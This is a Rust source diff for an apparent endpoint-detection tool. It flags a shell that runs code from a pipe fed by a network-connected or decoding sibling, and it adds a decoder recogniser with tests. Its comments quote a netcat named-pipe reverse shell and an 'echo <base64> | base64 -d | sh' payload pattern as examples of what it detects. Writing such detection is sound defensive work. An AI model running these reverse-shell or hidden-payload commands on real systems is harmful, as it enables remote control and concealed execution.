@@ -2,7 +2,8 @@
 //! sibling process makes or accepts an internet connection. The two halves of a pipeline are
 //! children of the same shell, started together, so they meet here in either order: the reader's
 //! exec, or the fetcher's connection. The same shape is the named-pipe reverse shell
-//! (`cat f | sh -i 2>&1 | nc HOST PORT >f`). Which process writes the pipe is not known (the
+//! (`cat f | sh -i 2>&1 | nc HOST PORT >f`), and, with a decoder in the fetcher's place
+//! (`echo <base64> | base64 -d | sh`), a payload hidden from whoever reads the command line. Which process writes the pipe is not known (the
 //! kernel record carries the file type of stdin, not its other end): a sibling started within
 //! a second of the reader (a pipeline's members are forked back to back), which connects within
 //! seconds, is taken for it. Two quick commands run one after the other can pass for a pipeline.
@@ -55,19 +56,63 @@ pub(super) fn reads_program_from_stdin(exe: &str, args: &[&str]) -> bool {
     true
 }
 
-/// The process that connected while a sibling read its program from a pipe.
+/// Whether a program, by its executable's name and arguments, decodes an encoded input: base64
+/// and its kin asked to decode, `xxd -r`, `openssl ... -d`, `uudecode`, or interpreter code
+/// that calls a base64 decoder. Compressors are left out: `zcat x.gz | sh` is how some
+/// installers ship, and compression hides nothing from a reader of the command line.
+pub(super) fn decodes(exe: &str, args: &[&str]) -> bool {
+    let name = exe.rsplit('/').next().unwrap_or(exe);
+    let short = |a: &str, flag: char| a.starts_with('-') && !a.starts_with("--") && a[1..].contains(flag);
+    // Interpreters by family (`python3.11`); the tools by their own name, digits included.
+    let family = match name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.') {
+        f @ ("python" | "pypy" | "perl" | "ruby" | "php" | "node") => f,
+        _ => name,
+    };
+    match family {
+        "base64" | "base32" | "basenc" => {
+            args.iter().any(|a| *a == "--decode" || short(a, 'd') || *a == "-D")
+        }
+        // xxd's long options take one dash too (`-postscript`): only `-r` alone or bundled
+        // with another letter (`-rp`).
+        "xxd" => args.iter().any(|a| *a == "-revert" || (a.len() <= 3 && short(a, 'r'))),
+        "openssl" => args.contains(&"-d"),
+        "uudecode" => true,
+        "python" | "pypy" | "perl" | "ruby" | "php" | "node" => args.iter().any(|a| {
+            ["b64decode", "decodebytes", "decode_base64", "base64_decode", "decode64", "atob("]
+                .iter()
+                .any(|call| a.contains(call))
+        }),
+        _ => false,
+    }
+}
+
+/// What feeds a reader's pipe.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(super) enum Feed {
+    /// A process that made or accepted an internet connection.
+    Connection,
+    /// A decoder whose stdout is a pipe.
+    Decoder,
+}
+
+/// The process taken for the writer of a reader's pipe: it connected, or it decodes.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub(super) struct Fetch {
     pub pid: u32,
     /// Its start (`ProcessKey::start_ns`).
     pub start_ns: u64,
     pub exe: Arc<str>,
+    pub feed: Feed,
 }
 
 impl Fetch {
     pub fn describe(&self, reader: &str) -> String {
+        let what = match self.feed {
+            Feed::Connection => "made or accepted an internet connection",
+            Feed::Decoder => "decodes an encoded input into a pipe",
+        };
         format!(
-            "{reader} reads its program from a pipe while {} (pid {}), started beside it, made or accepted an internet connection",
+            "{reader} reads its program from a pipe while {} (pid {}), started beside it, {what}",
             self.exe, self.pid
         )
     }
@@ -102,8 +147,9 @@ impl PipedWatch {
         None
     }
 
-    /// `fetch` made or accepted an internet connection; `parent` and `grandparent` are its
-    /// ancestors' tgids (0 when unknown). Returns the waiting readers it completes, each once.
+    /// `fetch` made or accepted an internet connection, or started decoding into a pipe;
+    /// `parent` and `grandparent` are its ancestors' tgids (0 when unknown). Returns the
+    /// waiting readers it completes, each once.
     pub fn fetched(
         &mut self,
         fetch: Fetch,
@@ -168,7 +214,7 @@ mod tests {
 
     /// Started as close to `key(n)` as the pipeline's other members.
     fn fetch(pid: u32, exe: &str) -> Fetch {
-        Fetch { pid, start_ns: u64::from(pid) * 1000, exe: exe.into() }
+        Fetch { pid, start_ns: u64::from(pid) * 1000, exe: exe.into(), feed: Feed::Connection }
     }
 
     #[test]
@@ -270,5 +316,55 @@ mod tests {
         }
         assert!(w.readers.len() < MAX_PARENTS, "{}", w.readers.len());
         assert_eq!(w.forgotten, MAX_PARENTS as u64);
+    }
+
+    #[test]
+    fn decoders_by_name_and_arguments() {
+        for (exe, args) in [
+            ("/usr/bin/base64", &["-d"][..]),
+            ("/usr/bin/base64", &["--decode", "-w0"][..]),
+            ("/usr/bin/base64", &["-di"][..]),
+            ("/usr/bin/base32", &["-d"][..]),
+            ("/usr/bin/basenc", &["--base64url", "-d"][..]),
+            ("/usr/bin/xxd", &["-r", "-p"][..]),
+            ("/usr/bin/xxd", &["-rp"][..]),
+            ("/usr/bin/openssl", &["enc", "-d", "-base64"][..]),
+            ("/usr/bin/openssl", &["base64", "-d"][..]),
+            ("/usr/bin/uudecode", &["-o", "/dev/stdout"][..]),
+            ("/usr/bin/python3.11", &["-c", "import base64,sys;sys.stdout.write(base64.b64decode('ZWNobw==').decode())"][..]),
+            ("/usr/bin/perl", &["-MMIME::Base64", "-e", "print decode_base64('ZWNobw==')"][..]),
+        ] {
+            assert!(decodes(exe, args), "{exe} {args:?}");
+        }
+        for (exe, args) in [
+            ("/usr/bin/base64", &[][..]),
+            ("/usr/bin/base64", &["-w", "0"][..]),
+            ("/usr/bin/xxd", &["-p"][..]),
+            ("/usr/bin/xxd", &["-postscript"][..]),
+            ("/usr/bin/openssl", &["enc", "-e", "-base64"][..]),
+            ("/usr/bin/gzip", &["-d"][..]),
+            ("/usr/bin/python3", &["-c", "print('hi')"][..]),
+            ("/usr/bin/cat", &["-d"][..]),
+            ("/usr/bin/base", &["-d"][..]),
+        ] {
+            assert!(!decodes(exe, args), "{exe} {args:?}");
+        }
+    }
+
+    #[test]
+    fn a_decoder_feeds_a_reader_like_a_fetcher() {
+        let t0 = Instant::now();
+        let mut w = PipedWatch::default();
+        let decoder = |pid| Fetch { feed: Feed::Decoder, ..fetch(pid, "/usr/bin/base64") };
+        assert_eq!(w.reader(key(11), "/usr/bin/bash".into(), 100, t0), None);
+        let hits = w.fetched(decoder(10), 100, 1, t0);
+        assert_eq!(hits.len(), 1);
+        assert_eq!(
+            hits[0].2.describe(&hits[0].1),
+            "/usr/bin/bash reads its program from a pipe while /usr/bin/base64 (pid 10), started beside it, decodes an encoded input into a pipe"
+        );
+        // The decoder first, then the reader.
+        assert!(w.fetched(decoder(20), 200, 1, t0).is_empty());
+        assert_eq!(w.reader(key(21), "/usr/bin/sh".into(), 200, t0), Some(decoder(20)));
     }
 }
